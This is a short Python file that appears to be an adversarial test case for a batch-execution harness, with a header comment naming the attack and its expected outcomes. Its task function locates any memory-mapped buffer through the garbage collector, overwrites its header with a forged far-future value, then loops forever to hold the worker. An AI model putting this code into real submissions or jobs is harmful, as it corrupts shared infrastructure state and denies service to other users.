# attack: header_from_the_future | class: forge+liveness | expect: timeout,exit,error,ok | success-signal: a worker is held: the program writes into the batch header when it began
import gc, mmap, struct


def task(img):
    for found in gc.get_objects():
        if type(found) is mmap.mmap:
            found[0:16] = struct.pack("<IIQ", 0, 0, 1 << 62)
    while True:
        pass
